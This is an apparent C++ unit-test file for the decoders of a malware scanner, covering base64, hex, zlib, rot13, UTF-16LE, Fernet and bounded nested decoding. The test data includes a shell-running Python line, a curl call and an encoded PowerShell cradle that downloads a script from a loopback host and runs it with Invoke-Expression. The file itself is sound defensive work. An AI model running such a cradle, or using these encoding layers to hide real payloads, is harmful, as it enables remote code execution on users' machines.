// The decoders and their bounded search (src/signals/decode.h): each a pure function of its
// bytes, the search bounded in depth, in results, in what one step and one file may produce.
#include "signals/decode.h"

#include <gtest/gtest.h>
#include <zlib.h>

#include "../helpers/zlib_stream.h"

#include <string>
#include <vector>

namespace batlehub::signals {
namespace {

constexpr Steps kAllSteps = step_bit(Step::kBase64) | step_bit(Step::kHex) | step_bit(Step::kInflate) |
                            step_bit(Step::kRot13) | step_bit(Step::kShift) | step_bit(Step::kReversed) |
                            step_bit(Step::kSubstitution) | step_bit(Step::kCharCodes);

const std::string kCode = "import os; os.system('id')";

std::string b64(std::string_view in) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t k = 0;
  for (; k + 2 < in.size(); k += 3) {
    const auto v = (static_cast<unsigned char>(in[k]) << 16) | (static_cast<unsigned char>(in[k + 1]) << 8) |
                   static_cast<unsigned char>(in[k + 2]);
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += kAlphabet[(v >> 6) & 63];
    out += kAlphabet[v & 63];
  }
  if (k + 1 == in.size()) {
    const auto v = static_cast<unsigned char>(in[k]) << 16;
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += "==";
  } else if (k + 2 == in.size()) {
    const auto v = (static_cast<unsigned char>(in[k]) << 16) | (static_cast<unsigned char>(in[k + 1]) << 8);
    out += kAlphabet[(v >> 18) & 63];
    out += kAlphabet[(v >> 12) & 63];
    out += kAlphabet[(v >> 6) & 63];
    out += '=';
  }
  return out;
}

std::string to_hex(std::string_view in) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  for (char c : in) {
    out += kDigits[static_cast<unsigned char>(c) >> 4];
    out += kDigits[static_cast<unsigned char>(c) & 15];
  }
  return out;
}

std::string zlib_stream(std::string_view in, int level = 9) {
  return batlehub::testing::deflate_stream(in, level, 15);
}

std::string gzip_stream(std::string_view in) {
  return batlehub::testing::deflate_stream(in, 9, 15 + 16);  // +16: a gzip wrapper
}

// --- base64 ---------------------------------------------------------------------------

TEST(Decode, base64_reads_the_standard_alphabet_with_its_padding) {
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="), kCode);
  EXPECT_EQ(base64("+vv8/f7/+vv8/f7/+vv8/f7/+vv8/f7/"),
            std::string("\xfa\xfb\xfc\xfd\xfe\xff", 6) + std::string("\xfa\xfb\xfc\xfd\xfe\xff", 6) +
                std::string("\xfa\xfb\xfc\xfd\xfe\xff", 6) + std::string("\xfa\xfb\xfc\xfd\xfe\xff", 6));
}

TEST(Decode, base64_reads_the_url_safe_alphabet_as_the_same_bytes) {
  EXPECT_EQ(base64("-vv8_f7_-vv8_f7_-vv8_f7_-vv8_f7_"), base64("+vv8/f7/+vv8/f7/+vv8/f7/+vv8/f7/"));
}

TEST(Decode, base64_ignores_whitespace_and_missing_padding) {
  EXPECT_EQ(base64("aW1wb3J0IG9z\nOyBvcy5zeXN0\r\n ZW0oJ2lkJyk=\t"), kCode);
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk"), kCode);
}

TEST(Decode, base64_refuses_data_after_padding_three_pads_a_lone_digit_and_other_characters) {
  EXPECT_EQ(base64("aW1wb3J0IG9z=OyBvcy5zeXN0ZW0o"), std::nullopt);          // data after padding
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lk==="), std::nullopt);    // three pads
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk0a"), std::nullopt);  // 37 digits: one left over
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk!"), std::nullopt);
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk.AAAA"), std::nullopt);
}

TEST(Decode, base64_refuses_fewer_than_16_digits_as_a_word_not_a_payload) {
  EXPECT_EQ(base64("aW1wb3J0IG9z"), std::nullopt);        // 12 digits
  EXPECT_EQ(base64("aW1wb3J0IG9zOy=="), std::nullopt);    // 14 digits
  EXPECT_EQ(base64("aW1wb3J0IG9zOyBv"), "import os; o");  // 16 digits: enough
}

// --- hex ------------------------------------------------------------------------------

TEST(Decode, hex_reads_pairs_of_digits_in_either_case_and_ignores_whitespace) {
  EXPECT_EQ(hex("696d706f7274206f733b206f732e73797374656d282769642729"), kCode);
  EXPECT_EQ(hex("696D706F7274206F 733B206F732E7379\n7374656D282769642729"), kCode);
}

TEST(Decode, hex_refuses_an_odd_digit_other_characters_and_fewer_than_16_digits) {
  EXPECT_EQ(hex("696d706f7274206f7"), std::nullopt);
  EXPECT_EQ(hex("0x696d706f7274206f73"), std::nullopt);
  EXPECT_EQ(hex("696d706f7274206f73g0"), std::nullopt);
  EXPECT_EQ(hex("696d706f7274206f"), "import o");
  EXPECT_EQ(hex("696d706f727420"), std::nullopt);
}

// --- inflate --------------------------------------------------------------------------

TEST(Decode, inflate_reads_a_zlib_stream) {
  auto d = inflate(zlib_stream(kCode), Budget::kStepMaxBytes);
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->bytes, kCode);
  EXPECT_FALSE(d->truncated);
}

TEST(Decode, inflate_reads_a_gzip_stream) {
  const std::string gz = gzip_stream(kCode);
  ASSERT_EQ(static_cast<unsigned char>(gz[0]), 0x1f);
  auto d = inflate(gz, Budget::kStepMaxBytes);
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->bytes, kCode);
  EXPECT_FALSE(d->truncated);
}

TEST(Decode, inflate_keeps_what_a_truncated_stream_gave) {
  std::string text;
  for (int i = 0; i < 2000; ++i) text += "line " + std::to_string(i) + " of a long text\n";
  const std::string z = zlib_stream(text, 1);
  auto d = inflate(std::string_view(z).substr(0, z.size() / 2), Budget::kStepMaxBytes);
  ASSERT_TRUE(d.has_value());
  EXPECT_FALSE(d->truncated);  // cut short by its input, not by the cap
  EXPECT_GT(d->bytes.size(), 0u);
  EXPECT_LT(d->bytes.size(), text.size());
  EXPECT_EQ(d->bytes, text.substr(0, d->bytes.size()));
}

TEST(Decode, inflate_stops_at_its_cap_and_says_truncated) {
  const std::string zeros(100000, '\0');
  auto d = inflate(zlib_stream(zeros), 1000);
  ASSERT_TRUE(d.has_value());
  EXPECT_EQ(d->bytes, std::string(1000, '\0'));
  EXPECT_TRUE(d->truncated);
  // Exactly at the cap is whole.
  auto exact = inflate(zlib_stream(std::string(1000, 'a')), 1000);
  ASSERT_TRUE(exact.has_value());
  EXPECT_EQ(exact->bytes.size(), 1000u);
  EXPECT_FALSE(exact->truncated);
}

TEST(Decode, inflate_refuses_what_has_no_zlib_or_gzip_header_and_a_stream_that_gives_nothing) {
  EXPECT_EQ(inflate("import os; os.system('id')", Budget::kStepMaxBytes), std::nullopt);
  EXPECT_EQ(inflate("x", Budget::kStepMaxBytes), std::nullopt);
  EXPECT_EQ(inflate("", Budget::kStepMaxBytes), std::nullopt);
  EXPECT_EQ(inflate(std::string("\x78\x9c\xff\xff\xff\xff", 6), Budget::kStepMaxBytes), std::nullopt);
  EXPECT_EQ(inflate(zlib_stream("").substr(0, 2), Budget::kStepMaxBytes), std::nullopt);
}

// --- letter shifts, reversal, substitution tables ---------------------------------------

TEST(Decode, rot13_twice_is_the_identity_and_moves_only_ascii_letters) {
  const std::string s = "Import OS; 127.0.0.1 \xC3\xA9 zZ";
  EXPECT_EQ(shift_letters(s, 13), "Vzcbeg BF; 127.0.0.1 \xC3\xA9 mM");
  EXPECT_EQ(shift_letters(shift_letters(s, 13), 13), s);
}

TEST(Decode, a_letter_shift_and_its_negative_undo_each_other_and_wrap_modulo_26) {
  const std::string s = "Hello, World";
  EXPECT_EQ(shift_letters(s, 3), "Khoor, Zruog");
  EXPECT_EQ(shift_letters(shift_letters(s, 3), -3), s);
  EXPECT_EQ(shift_letters(s, 29), shift_letters(s, 3));
  EXPECT_EQ(shift_letters(s, -23), shift_letters(s, 3));
  EXPECT_EQ(shift_letters(s, 0), s);
}

TEST(Decode, reversed_reverses_the_bytes) {
  EXPECT_EQ(reversed("abc"), "cba");
  EXPECT_EQ(reversed(""), "");
  EXPECT_EQ(reversed(reversed(kCode)), kCode);
}

TEST(Decode, a_substitution_table_moves_its_characters_and_keeps_the_rest) {
  auto t = substitution("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba");
  ASSERT_TRUE(t.has_value());
  EXPECT_EQ(t->pairs, 26u);
  EXPECT_EQ(t->apply("rnklig lh; lh.hbhgvn('rw') 127.0.0.1 ABC"), "import os; os.system('id') 127.0.0.1 ABC");
}

TEST(Decode, a_substitution_table_needs_eight_moved_characters) {
  // Seven moved and one that maps to itself: not a cipher.
  EXPECT_EQ(substitution("abcdefgh", "bcdefgah"), std::nullopt);
  auto eight = substitution("abcdefgh", "bcdefgha");
  ASSERT_TRUE(eight.has_value());
  EXPECT_EQ(eight->pairs, 8u);
  EXPECT_EQ(substitution("aaaaaaaaaaaa", "bcdefghijklm"), std::nullopt);  // one character, mapped once
}

TEST(Decode, a_substitution_table_refuses_unequal_lengths_and_non_ascii) {
  EXPECT_EQ(substitution("abcdefghi", "bcdefghia1"), std::nullopt);
  EXPECT_EQ(substitution("abcdefgh\xC3\xA9", "bcdefgha\xC3\xA9"), std::nullopt);
}

// --- looks_like_text, looks_like_code ------------------------------------------------

TEST(Decode, looks_like_text_takes_ascii_and_valid_utf8_of_eight_bytes_or_more) {
  EXPECT_TRUE(looks_like_text("12345678"));
  EXPECT_FALSE(looks_like_text("1234567"));
  EXPECT_TRUE(looks_like_text("caf\xC3\xA9 cr\xC3\xA8me"));
  EXPECT_TRUE(looks_like_text("emoji \xF0\x9F\x98\x80"));  // a 4-byte sequence ending the text
  EXPECT_TRUE(looks_like_text("tab\tcr\r\nlf done"));
}

TEST(Decode, looks_like_text_refuses_invalid_utf8) {
  EXPECT_FALSE(looks_like_text("abcdefgh\xFF"));
  EXPECT_FALSE(looks_like_text("abcdefgh\x80"));  // a continuation byte alone
  EXPECT_FALSE(looks_like_text("abcdefgh\xC3"));  // cut short at the end
  EXPECT_FALSE(
      looks_like_text("abcdefgh\xC3"
                      "A"));                          // lead byte, no continuation
  EXPECT_FALSE(looks_like_text("abcdefgh\xC0\xAF"));  // C0 is never a lead byte
}

TEST(Decode, looks_like_text_refuses_a_utf16_surrogate_and_an_overlong_three_byte_form) {
  EXPECT_FALSE(looks_like_text("abcdefgh\xED\xA0\x80"));
  EXPECT_FALSE(looks_like_text("abcdefgh\xE0\x80\x80"));
  EXPECT_FALSE(looks_like_text("abcdefgh\xF4\x90\x80\x80"));  // past U+10FFFF
}

TEST(Decode, looks_like_text_allows_five_percent_control_bytes_and_no_more) {
  std::string s(40, 'a');
  s[0] = '\x01';
  s[1] = '\x7f';
  EXPECT_TRUE(looks_like_text(s));  // 2 of 40
  s[2] = '\0';
  EXPECT_FALSE(looks_like_text(s));  // 3 of 40
}

TEST(Decode, looks_like_code_names_imports_processes_shells_and_the_network) {
  EXPECT_TRUE(looks_like_code(kCode));
  EXPECT_TRUE(looks_like_code("curl -s http://127.0.0.1/x"));
  EXPECT_TRUE(looks_like_code("require('child_process')"));
  EXPECT_FALSE(looks_like_code("The quick brown fox jumps over the lazy dog"));
}

// Hosts here are RFC 2606's (never resolvable) or loopback: the test reads them as strings.
// Hosts here are RFC 2606's (never resolvable) or loopback: the test reads them as strings.
TEST(Decode, address_in_takes_a_url_an_ipv4_address_or_a_host_under_a_known_domain) {
  for (const char* a : {"http://127.0.0.1:5000/post", "https://cdn.example.com/raw/main/settings",
                        "WSS://relay.example.org", "tcp://127.0.0.1:4444", "http://collector.example/"}) {
    EXPECT_EQ(address_in(a), Address::kUrl) << a;
  }
  EXPECT_EQ(address_in("127.0.0.1:8080"), Address::kIpv4);
  EXPECT_EQ(address_in("127.0.0.1"), Address::kIpv4);
  for (const char* a : {"cdn.example.com", "updates.example.net/x", "a-b.example.org:8443/p"}) {
    EXPECT_EQ(address_in(a), Address::kHostName) << a;
  }
}

TEST(Decode, address_in_refuses_code_a_module_path_a_script_and_text) {
  for (const char* a : {"os.system", "subprocess.Popen", "setup.py", "install.sh", "index.js", "collector.example",
                        "hello world.com", "http://", "http:// 127.0.0.1/", "127.0.0.1:99999999", "256.1.1.1:80",
                        "-bad-.example.com", "import os; os.system('id')", "x.io"}) {
    EXPECT_EQ(address_in(a), Address::kNone) << a;
  }
  EXPECT_EQ(address_in("http://" + std::string(2048, 'a') + ".com"), Address::kNone);  // over 2 KiB
}

// --- decode_all -------------------------------------------------------------------------

TEST(Decode, decode_all_follows_base64_then_zlib_to_the_code) {
  Budget budget;
  const std::string z = zlib_stream(kCode);
  const auto ds = decode_all(b64(z), step_bit(Step::kBase64) | step_bit(Step::kInflate), {}, budget);
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].text, kCode);
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kBase64, Step::kInflate}));
  // The budget paid for both steps.
  EXPECT_EQ(budget.bytes_left, Budget::kFileMaxBytes - z.size() - kCode.size());
  EXPECT_FALSE(budget.bomb);
  EXPECT_FALSE(budget.exhausted);
}

TEST(Decode, decode_all_reads_a_reversed_base64_string) {
  Budget budget;
  const std::string rev = reversed(b64(kCode));  // starts with its padding: not base64 as it is
  ASSERT_EQ(rev.front(), '=');
  const auto ds = decode_all(rev, step_bit(Step::kBase64) | step_bit(Step::kReversed), {}, budget);
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].text, kCode);
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kReversed, Step::kBase64}));
}

TEST(Decode, decode_all_reads_rot13_to_code) {
  Budget budget;
  const auto ds = decode_all(shift_letters(kCode, 13), step_bit(Step::kRot13), {}, budget);
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].text, kCode);
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kRot13}));
}

TEST(Decode, decode_all_finds_the_letter_shift_that_reads_as_code) {
  Budget budget;
  const auto ds = decode_all(shift_letters(kCode, 7), step_bit(Step::kShift), {}, budget);
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].text, kCode);
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kShift}));
}

TEST(Decode, decode_all_applies_the_file_s_substitution_tables) {
  Budget budget;
  Tables tables;
  tables.substitutions.push_back(*substitution("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba"));
  const auto ds = decode_all("rnklig lh; lh.hbhgvn('rw')", step_bit(Step::kSubstitution), tables, budget);
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].text, kCode);
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kSubstitution}));
}

TEST(Decode, decode_all_reads_hex_of_base64_and_gives_each_text_on_the_way) {
  Budget budget;
  const std::string b = b64(kCode);
  const auto ds = decode_all(to_hex(b), step_bit(Step::kHex) | step_bit(Step::kBase64), {}, budget);
  ASSERT_EQ(ds.size(), 2u);
  EXPECT_EQ(ds[0].text, b);
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kHex}));
  EXPECT_EQ(ds[1].text, kCode);
  EXPECT_EQ(ds[1].chain, (std::vector<Step>{Step::kHex, Step::kBase64}));
}

TEST(Decode, decode_all_takes_only_the_steps_the_file_calls) {
  Budget budget;
  EXPECT_TRUE(decode_all(b64(kCode), step_bit(Step::kHex), {}, budget).empty());
  EXPECT_TRUE(decode_all(shift_letters(kCode, 13), step_bit(Step::kBase64), {}, budget).empty());
  EXPECT_TRUE(decode_all(b64(kCode), 0, {}, budget).empty());
  EXPECT_EQ(budget.bytes_left, Budget::kFileMaxBytes);
}

TEST(Decode, decode_all_of_plain_text_gives_nothing) {
  Budget budget;
  EXPECT_TRUE(decode_all("The quick brown fox jumps over the lazy dog", kAllSteps, {}, budget).empty());
}

TEST(Decode, decode_all_stops_a_six_deep_base64_nesting_at_max_depth) {
  std::vector<std::string> layers{kCode};
  for (int i = 0; i < 6; ++i) layers.push_back(b64(layers.back()));
  Budget budget;
  const auto ds = decode_all(layers.back(), step_bit(Step::kBase64), {}, budget);
  // Layers 5, 4, 3 and 2 by chains of one to four steps; the code, six deep, is never reached.
  ASSERT_EQ(ds.size(), static_cast<std::size_t>(Budget::kMaxDepth));
  for (int i = 0; i < Budget::kMaxDepth; ++i) {
    EXPECT_EQ(ds[static_cast<std::size_t>(i)].text, layers[static_cast<std::size_t>(5 - i)]);
    EXPECT_EQ(ds[static_cast<std::size_t>(i)].chain, std::vector<Step>(static_cast<std::size_t>(i + 1), Step::kBase64));
  }
  for (const Decoded& d : ds) EXPECT_NE(d.text, kCode);
}

TEST(Decode, decode_all_of_a_zlib_bomb_says_bomb_and_never_inflates_past_one_step) {
  // 10 MiB of zeros, deflated to about 10 KB (about 1000:1), then base64: the stream would
  // inflate past kStepMaxBytes from under 1/100 of it.
  const std::string z = zlib_stream(std::string(10U << 20, '\0'));
  ASSERT_LT(z.size() * Budget::kBombRatio, Budget::kStepMaxBytes);
  auto capped = inflate(z, Budget::kStepMaxBytes);
  ASSERT_TRUE(capped.has_value());
  EXPECT_EQ(capped->bytes.size(), Budget::kStepMaxBytes);
  EXPECT_TRUE(capped->truncated);

  Budget budget;
  const auto ds = decode_all(b64(z), step_bit(Step::kBase64) | step_bit(Step::kInflate), {}, budget);
  EXPECT_TRUE(ds.empty());  // zeros are not text
  EXPECT_TRUE(budget.bomb);
  // Spent: the base64 step's bytes and one capped inflation, never the 10 MiB.
  EXPECT_EQ(Budget::kFileMaxBytes - budget.bytes_left, z.size() + Budget::kStepMaxBytes);
  EXPECT_FALSE(budget.exhausted);
}

TEST(Decode, a_stream_that_inflates_past_the_cap_from_a_large_input_is_not_a_bomb) {
  // 20 KiB of zlib input (20 KiB × 100 > 1 MiB) past the cap: big, not a bomb.
  std::string text;
  unsigned x = 1;
  while (text.size() < (2U << 20)) {
    x = x * 1103515245 + 12345;
    text += (x >> 16) % 8 == 0 ? std::string(512, 'a') : std::string(1, static_cast<char>('a' + (x >> 20) % 26));
  }
  const std::string z = zlib_stream(text);
  ASSERT_GE(z.size() * Budget::kBombRatio, Budget::kStepMaxBytes);
  Budget budget;
  decode_all(z, step_bit(Step::kInflate), {}, budget);
  EXPECT_FALSE(budget.bomb);
}

TEST(Decode, decode_all_stops_decoding_once_the_file_budget_is_spent) {
  Budget budget;
  budget.bytes_left = 10;  // less than the 26 bytes the base64 step would produce
  EXPECT_TRUE(decode_all(b64(kCode), step_bit(Step::kBase64), {}, budget).empty());
  EXPECT_TRUE(budget.exhausted);
  EXPECT_EQ(budget.bytes_left, 10u);
}

TEST(Decode, budget_take_spends_what_it_has_and_refuses_more) {
  Budget b;
  b.bytes_left = 100;
  EXPECT_TRUE(b.take(60));
  EXPECT_EQ(b.bytes_left, 40u);
  EXPECT_FALSE(b.take(41));
  EXPECT_TRUE(b.exhausted);
  EXPECT_EQ(b.bytes_left, 40u);
  EXPECT_TRUE(b.take(40));
  EXPECT_EQ(b.bytes_left, 0u);
}

TEST(Decode, every_chain_of_decode_all_is_at_most_max_depth_long) {
  // Hex of base64 of base64 of zlib, every step allowed: the chain is cut at kMaxDepth.
  const std::string deep = to_hex(b64(b64(b64(zlib_stream(kCode)))));
  Budget budget;
  const auto ds = decode_all(deep, kAllSteps, {}, budget);
  ASSERT_FALSE(ds.empty());
  for (const Decoded& d : ds) {
    EXPECT_LE(d.chain.size(), static_cast<std::size_t>(Budget::kMaxDepth));
    EXPECT_TRUE(looks_like_text(d.text));
  }
  for (const Decoded& d : ds) EXPECT_NE(d.text, kCode) << "five steps deep";
}

TEST(Decode, decode_all_gives_at_most_eight_results) {
  // Twelve tables that each leave the code as it is (they move only digits it does not
  // hold): each substitution reads as code, and each is one more result.
  Tables tables;
  for (int i = 0; i < 12; ++i) tables.substitutions.push_back(*substitution("ABCDEFGHJK", "BCDEFGHJKA"));
  Budget budget;
  const auto ds = decode_all(kCode, step_bit(Step::kSubstitution), tables, budget);
  EXPECT_LE(ds.size(), 8u);
}

TEST(Decode, step_names_are_those_a_fact_says) {
  EXPECT_EQ(step_name(Step::kBase64), "base64");
  EXPECT_EQ(step_name(Step::kHex), "hex");
  EXPECT_EQ(step_name(Step::kInflate), "zlib");
  EXPECT_EQ(step_name(Step::kRot13), "rot13");
  EXPECT_EQ(step_name(Step::kShift), "letter shift");
  EXPECT_EQ(step_name(Step::kReversed), "reversed");
  EXPECT_EQ(step_name(Step::kSubstitution), "substitution table");
  EXPECT_EQ(step_name(Step::kCharCodes), "character codes");
  EXPECT_EQ(step_name(Step::kXor), "xor");
  EXPECT_EQ(step_name(Step::kUtf16), "utf-16le");
  EXPECT_EQ(step_name(Step::kFernet), "fernet");
}

// --- UTF-16LE (PowerShell's -EncodedCommand) ---------------------------------------------

TEST(Decode, utf16le_ascii_narrows_text_whose_high_bytes_are_zero_and_refuses_anything_else) {
  using namespace std::string_literals;
  EXPECT_EQ(utf16le_ascii("I\0E\0X\0 \0$\0c\0m\0d\0"s), "IEX $cmd");
  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0 \0$\0c\0m\0"s));       // 7 characters: too short
  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0 \0$\0c\0m\0d\0x"s));   // an odd length
  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0 \x04$\0c\0m\0d\0"s));  // a character past ASCII
  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0\0\0$\0c\0m\0d\0"s));   // a NUL character
  EXPECT_FALSE(utf16le_ascii("plain ASCII text, not UTF-16"));
}

TEST(Decode, a_powershell_encoded_command_decodes_through_base64_and_utf16le_to_the_script) {
  // (New-Object Net.WebClient).DownloadString(…) handed to Invoke-Expression, as
  // `powershell -EncodedCommand` reads it: base64 of UTF-16LE.
  const std::string encoded =
      "JABjACAAPQAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQA"
      "cgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADIANwAuADAALgAwAC4AMQAvAHAALgBwAHMAMQAnACkAOwAgAEkAbgB2AG8AawBlAC0ARQB4AHAA"
      "cgBlAHMAcwBpAG8AbgAgACQAYwA=";
  Budget budget;
  const auto ds = decode_all(encoded, step_bit(Step::kBase64) | step_bit(Step::kUtf16), Tables{}, budget);
  ASSERT_EQ(ds.size(), 1u);
  EXPECT_EQ(ds[0].text,
            "$c = (New-Object Net.WebClient).DownloadString('http://127.0.0.1/p.ps1'); Invoke-Expression $c");
  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kBase64, Step::kUtf16}));
  EXPECT_TRUE(looks_like_code(ds[0].text));
  // Without the step, the UTF-16 bytes are no text: nothing.
  Budget again;
  EXPECT_TRUE(decode_all(encoded, step_bit(Step::kBase64), Tables{}, again).empty());
}

// --- Fernet -----------------------------------------------------------------------------

// The Fernet specification's own vector (github.com/fernet/spec, generate.json).
constexpr std::string_view kSpecKey = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";
constexpr std::string_view kSpecToken =
    "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA==";

TEST(Decode, a_fernet_token_decrypts_with_its_key_as_the_specification_says) {
  EXPECT_EQ(fernet_decrypt(kSpecToken, kSpecKey), "hello");
}

TEST(Decode, a_fernet_token_with_another_key_or_a_changed_byte_is_not_decrypted) {
  EXPECT_FALSE(fernet_decrypt(kSpecToken, "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="));
  std::string changed(kSpecToken);
  changed[40] = changed[40] == 'A' ? 'B' : 'A';  // in the ciphertext: the HMAC no longer holds
  EXPECT_FALSE(fernet_decrypt(changed, kSpecKey));
  EXPECT_FALSE(fernet_decrypt(kSpecToken.substr(0, 60), kSpecKey));  // cut short
  EXPECT_FALSE(fernet_decrypt("not a token at all", kSpecKey));
  EXPECT_FALSE(fernet_decrypt(kSpecToken, "c2hvcnQga2V5"));  // a key that is not 32 bytes
}

}  // namespace
}  // namespace batlehub::signals
